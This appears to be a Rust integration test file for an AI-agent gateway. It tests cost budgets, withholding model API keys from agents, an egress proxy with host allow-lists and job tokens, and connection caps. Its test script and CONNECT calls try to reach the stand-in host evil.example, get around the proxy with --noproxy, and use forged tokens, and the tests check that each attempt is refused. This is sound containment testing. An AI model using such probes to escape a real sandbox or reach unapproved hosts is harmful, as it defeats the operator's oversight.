        "  fixer: {{codex: {{model: gpt-5.5, base_url: \"{}/v1\", api_key_env: TEST_REAL_KEY}}, max_cost_usd: 0.4, timeout: 120s, sandbox: none}}\n",
        model.url
    ));
    common::append_config(
        &spine,
        "gateway:\n  prices:\n    gpt-5.5: {input: 400.0, output: 2000.0}\n",
    );
    start(&mut spine).await;
    spine
        .deliver_example("issues", "d1", "issues/opened.json")
        .await;
    let job = spine.wait_for_finished_jobs(1).await.remove(0);
    let log = spine.job_log(job.id).await;
    assert_eq!(job.state, JobState::Failed, "{log:#?}");
    assert_eq!(
        job.error.as_deref(),
        Some(
            "running the agent: budget reached: this job's budget of $0.40 is spent ($0.50 so far)"
        ),
        "{log:#?}"
    );
    assert_eq!(
        model.requests().len(),
        1,
        "the second turn never reached the model"
    );
    let lines: Vec<&str> = log.iter().map(|l| l.line.as_str()).collect();
    // The agent saw the refusal (Codex reports it on its event stream).
    assert!(
        lines.iter().any(
            |l| l.contains("nightshift: this job's budget of $0.40 is spent")
                && !l.starts_with("gateway:")
                && !l.starts_with("failed:")
        ),
        "{lines:#?}"
    );
    let usage = job.usage.expect("metered");
    assert_eq!(usage.turns, Some(1));
    assert!((usage.cost_usd.unwrap() - 0.5).abs() < 1e-9, "{usage:?}");
    let comments = spine.wait_for_comments(1).await;
    assert!(
        comments[0].body.contains("budget reached"),
        "{}",
        comments[0].body
    );
    // The service is still answering.
    let health = reqwest::get(format!("{}/healthz", spine.url()))
        .await
        .unwrap();
    assert_eq!(health.status(), 200);
}

#[tokio::test]
async fn a_repositorys_daily_budget_holds_across_jobs_and_a_restart() {
    // Each answer costs 120 input tokens at $5000/M and 30 output at $20000/M: $1.20, over the $1.00 day.
    let model = ModelServer::chat(vec![
        ChatReply::Answer("first".into(), 120, 30),
        ChatReply::Answer("second".into(), 120, 30),
    ])
    .await;
    let trigger = (
        "summary.yml",
        "on:\n  issues:\n    types: [opened]\nagent: summarizer\nprompt: Summarize.\n",
    );
    let mut spine = Spine::new(Auth::Token, &[trigger]).await;
    spine.add_agents(&format!(
        "  summarizer: {{openai: {{model: local-model, base_url: \"{}/v1\", api_key_env: TEST_REAL_KEY}}, timeout: 60s}}\n",
        model.url
    ));
    common::append_config(
        &spine,
        "gateway:\n  prices:\n    local-model: {input: 5000, output: 20000}\nbudgets:\n  per_repository_daily_usd: 1\n",
    );
    start(&mut spine).await;
    spine
        .deliver_example("issues", "d1", "issues/opened.json")
        .await;
    let first = spine.wait_for_finished_jobs(1).await.remove(0);
    assert_eq!(first.state, JobState::Succeeded, "{:?}", first.error);
    assert!((first.usage.unwrap().cost_usd.unwrap() - 1.2).abs() < 1e-9);

    // The spend is read from the store: a restart forgets nothing.
    spine.kill();
    start(&mut spine).await;
    let mut payload: Value = serde_json::from_slice(&spine.payload("issues/opened.json")).unwrap();
    payload["issue"]["number"] = 2.into();
    let body = serde_json::to_vec(&payload).unwrap();
    assert_eq!(spine.deliver("issues", "d2", &body).await, 202);
    let jobs = spine.wait_for_finished_jobs(2).await;
    let second = &jobs[1];
    assert_eq!(second.state, JobState::Failed);
    assert_eq!(
        second.error.as_deref(),
        Some(
            "running the agent: budget reached: the daily budget of $1.00 for Codertocat/Hello-World is spent ($1.20 today, UTC)"
        )
    );
    assert_eq!(
        model.requests().len(),
        1,
        "the second job never reached the model"
    );
    let health = reqwest::get(format!("{}/healthz", spine.url()))
        .await
        .unwrap();
    assert_eq!(health.status(), 200);
}

/// An operator who lists a model key in a profile's `env:` (or a command profile that names another
/// profile's key) still gives no agent the key: the gateway took it at start.
#[tokio::test]
async fn a_model_key_listed_in_a_profiles_env_is_not_given_to_the_agent() {
    let model = ModelServer::chat(vec![]).await;
    let trigger = (
        "env.yml",
        "on:\n  issues:\n    types: [opened]\nagent: leaky\nprompt: hi\n",
    );
    let mut spine = Spine::new(Auth::Token, &[trigger]).await;
    let agents = common::manifest_dir().join("tests/agents");
    spine.add_agents(&format!(
        "  leaky: {{command: [{}/env.sh], env: [TEST_REAL_KEY, TEST_VISIBLE], timeout: 30s}}\n  \
         summarizer: {{openai: {{model: m, base_url: \"{}/v1\", api_key_env: TEST_REAL_KEY}}}}\n",
        agents.display(),
        model.url
    ));
    let path = path_with_agent_clis();
    spine
        .start_with_env(&[
            ("PATH", &path),
            ("TEST_REAL_KEY", REAL_KEY),
            ("TEST_VISIBLE", "shown"),
        ])
        .await;
    spine
        .deliver_example("issues", "d1", "issues/opened.json")
        .await;
    let job = spine.wait_for_finished_jobs(1).await.remove(0);
    assert_eq!(job.state, JobState::Succeeded, "{:?}", job.error);
    let comments = spine.wait_for_comments(1).await;
    let body = &comments[0].body;
    assert!(
        body.contains("TEST_VISIBLE=shown"),
        "the allow-list works: {body}"
    );
    assert!(
        !body.contains(REAL_KEY),
        "the key reached the agent: {body}"
    );
    assert!(!body.contains("TEST_REAL_KEY"), "{body}");
}

// ---- Egress: the CONNECT proxy ----

/// Sends a raw CONNECT to the gateway's port; returns the status line and the open stream.
async fn connect(
    gateway: &Gateway,
    target: &str,
    token: Option<&str>,
) -> (String, tokio::net::TcpStream) {
    use base64::Engine;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(gateway.tcp_addr())
        .await
        .unwrap();
    let auth = token
        .map(|t| {
            let basic = base64::engine::general_purpose::STANDARD.encode(format!("nightshift:{t}"));
            format!("Proxy-Authorization: Basic {basic}\r\n")
        })
        .unwrap_or_default();
    stream
        .write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{auth}\r\n").as_bytes())
        .await
        .unwrap();
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        let mut byte = [0u8; 1];
        if stream.read(&mut byte).await.unwrap() == 0 {
            break;
        }
        head.push(byte[0]);
    }
    let head = String::from_utf8_lossy(&head).into_owned();
    // A refusal has a body saying why; read what has come of it.
    (head.lines().next().unwrap_or_default().to_owned(), stream)
}

#[tokio::test]
async fn egress_goes_only_to_allowed_hosts_on_their_https_port_with_the_jobs_token() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let up = Upstream::default();
    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let fetcher = open(&gateway, &config, "fetcher", 1).await;
    let coder = open(&gateway, &config, "coder", 2).await;

    // Without the test mode, an allowed name that resolves to loopback is refused: an allowed name cannot be
    // pointed back at nightshift or the operator's network.
    let (status, _) = connect(&gateway, "localhost:443", Some(fetcher.token())).await;
    assert!(status.contains(" 403 "), "{status}");

    // An echo server stands in for an HTTPS host; the test mode lets the tunnel reach it on loopback.
    let echo = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = echo.local_addr().unwrap().port();
    tokio::spawn(async move {
        loop {
            let (mut socket, _) = echo.accept().await.unwrap();
            tokio::spawn(async move {
                let (mut r, mut w) = socket.split();
                let _ = tokio::io::copy(&mut r, &mut w).await;
            });
        }
    });
    gateway.egress_test_mode(port);
    let target = format!("localhost:{port}");

    let (status, _) = connect(&gateway, &target, None).await;
    assert!(status.contains(" 407 "), "no token: {status}");
    let (status, _) = connect(&gateway, &target, Some("nsjob-forged")).await;
    assert!(status.contains(" 407 "), "a forged token: {status}");
    let (status, _) = connect(&gateway, &target, Some(coder.token())).await;
    assert!(status.contains(" 403 "), "a job without egress: {status}");
    let (status, _) = connect(
        &gateway,
        &format!("127.0.0.1:{port}"),
        Some(fetcher.token()),
    )
    .await;
    assert!(status.contains(" 403 "), "an address not listed: {status}");
    let (status, _) = connect(
        &gateway,
        &format!("evil.example:{port}"),
        Some(fetcher.token()),
    )
    .await;
    assert!(status.contains(" 403 "), "a host not listed: {status}");
    let (status, _) = connect(
        &gateway,
        &format!("allowed.test:{port}"),
        Some(fetcher.token()),
    )
    .await;
    assert!(
        status.contains(" 403 "),
        "*.allowed.test is not allowed.test: {status}"
    );
    let (status, _) = connect(&gateway, "localhost:22", Some(fetcher.token())).await;
    assert!(status.contains(" 403 "), "another port: {status}");

    // The allowed host, with the token: a tunnel, bytes both ways.
    let (status, mut tunnel) = connect(&gateway, &target, Some(fetcher.token())).await;
    assert!(status.contains(" 200 "), "{status}");
    tunnel.write_all(b"hello through the tunnel").await.unwrap();
    let mut back = [0u8; 24];
    tunnel.read_exact(&mut back).await.unwrap();
    assert_eq!(&back, b"hello through the tunnel");
    // A model request with an egress-only token is refused.
    let (status, body) = post(&gateway, "/v1/responses", Some(fetcher.token())).await;
    assert_eq!(status, 404, "{body}");
    // The job's end revokes the token for new tunnels.
    let token = fetcher.token().to_owned();
    drop(fetcher);
    let (status, _) = connect(&gateway, &target, Some(&token)).await;
    assert!(status.contains(" 407 "), "a revoked token: {status}");
    assert!(up.seen.lock().unwrap().is_empty());
}

/// A boxed command agent with egress gets HTTPS_PROXY and reaches only the proxy; what it asks for beyond its
/// allow-list is refused, and without egress it has no network at all.
#[tokio::test]
async fn a_boxed_agent_reaches_the_network_only_through_the_proxy() {
    let trigger = (
        "fetch.yml",
        "on:\n  issues:\n    types: [opened]\nagent: fetcher\nprompt: hi\n",
    );
    let mut spine = Spine::new(Auth::Token, &[trigger]).await;
    let script = spine.dir.path().join("fetch.sh");
    std::fs::write(
        &script,
        "#!/bin/sh\n\
         echo \"proxy=$(printf %s \"$HTTPS_PROXY\" | sed 's/nsjob-[0-9a-f]*/TOKEN/')\"\n\
         curl -sS -m 10 https://evil.example/ 2>&1 | head -1\n\
         curl -sS -m 10 --noproxy '' https://localhost/ 2>&1 | head -1\n\
         curl -sS -m 10 --noproxy '*' https://1.1.1.1/ 2>&1 | head -1\n\
         echo done\n",
    )
    .unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    spine.add_agents(&format!(
        "  fetcher: {{command: [{}], egress: [localhost, registry.npmjs.org], timeout: 60s}}\n",
        script.display()
    ));
    spine.start().await;
    spine
        .deliver_example("issues", "d1", "issues/opened.json")
        .await;
    let job = spine.wait_for_finished_jobs(1).await.remove(0);
    let log = spine.job_log(job.id).await;
    assert_eq!(job.state, JobState::Succeeded, "{:?}\n{log:#?}", job.error);
    let body = &spine.wait_for_comments(1).await[0].body;
    assert!(
        body.contains("proxy=http://nightshift:TOKEN@127.0.0.1:4180"),
        "{body}"
    );
    let lines: Vec<&str> = body.lines().filter(|l| l.starts_with("curl:")).collect();
    assert_eq!(lines.len(), 3, "{body}");
    assert!(lines[0].contains("403"), "a host not allowed: {body}");
    assert!(
        lines[1].contains("403"),
        "allowed, but resolves to loopback: {body}"
    );
    assert!(!lines[2].contains("403"), "no proxy, no network: {body}");
    assert!(body.contains("done"), "{body}");
    let lines: Vec<&str> = log.iter().map(|l| l.line.as_str()).collect();
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("gateway: refused egress to evil.example:443")),
        "{lines:#?}"
    );
}

#[tokio::test]
async fn a_job_holds_at_most_a_few_model_requests_open_at_once() {
    let up = Upstream::default();
    *up.gated.lock().unwrap() = true;
    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let access = open(&gateway, &config, "free", 1).await;
    let mut open_streams = Vec::new();
    for _ in 0..nightshift::gateway::MAX_IN_FLIGHT {
        let mut response = client()
            .post(url(&gateway, "/v1/responses"))
            .bearer_auth(access.token())
            .body("{}")
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200);
        response.chunk().await.unwrap().expect("the first event");
        open_streams.push(response);
    }
    // One more is refused (429: the CLIs retry it later), without reading its body or going upstream.
    let (status, body) = post(&gateway, "/v1/responses", Some(access.token())).await;
    assert_eq!(status, 429, "{body}");
    assert_eq!(
        up.seen.lock().unwrap().len(),
        nightshift::gateway::MAX_IN_FLIGHT
    );
    // Another job is not held by this one.
    let other = open(&gateway, &config, "free", 2).await;
    *up.gated.lock().unwrap() = false;
    let (status, _) = post(&gateway, "/v1/responses", Some(other.token())).await;
    assert_eq!(status, 200);
    // Streams the agent abandons free their places.
    drop(open_streams);
    up.release.add_permits(nightshift::gateway::MAX_IN_FLIGHT);
    access.settle().await;
    let (status, body) = post(&gateway, "/v1/responses", Some(access.token())).await;
    assert_eq!(status, 200, "{body}");
}

/// Sends `HEAD /` on an open connection; true when it was answered 200.
async fn head_ok(stream: &mut tokio::net::TcpStream) -> bool {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    if stream
        .write_all(b"HEAD / HTTP/1.1\r\nHost: gateway\r\n\r\n")
        .await
        .is_err()
    {
        return false;
    }
    let mut answer = Vec::new();
    let mut buf = [0u8; 256];
    while !answer.ends_with(b"\r\n\r\n") {
        match tokio::time::timeout(Duration::from_secs(10), stream.read(&mut buf)).await {
            Ok(Ok(n)) if n > 0 => answer.extend_from_slice(&buf[..n]),
            _ => return false,
        }
    }
    answer.starts_with(b"HTTP/1.1 200")
}

/// An agent that opens connection after connection (no token needed to connect) gets a bounded number;
/// the rest are closed at once, and a slot freed is used again.
#[tokio::test]
async fn connections_to_the_gateway_are_capped() {
    use nightshift::gateway::listen::MAX_CONNECTIONS;
    let up = Upstream::default();
    let (_dir, _config, gateway) = gateway(&start_upstream(up.clone()).await).await;
    let mut held = Vec::new();
    for n in 0..MAX_CONNECTIONS {
        let mut stream = tokio::net::TcpStream::connect(gateway.tcp_addr())
            .await
            .unwrap();
        assert!(head_ok(&mut stream).await, "connection {n} was served");
        held.push(stream);
    }
    let mut extra = tokio::net::TcpStream::connect(gateway.tcp_addr())
        .await
        .unwrap();
    assert!(!head_ok(&mut extra).await, "one more is closed");
    drop(held.pop());
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let mut stream = tokio::net::TcpStream::connect(gateway.tcp_addr())
            .await
            .unwrap();
        if head_ok(&mut stream).await {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "the freed slot was never used again"
        );
        tokio::task::yield_now().await;
    }
}
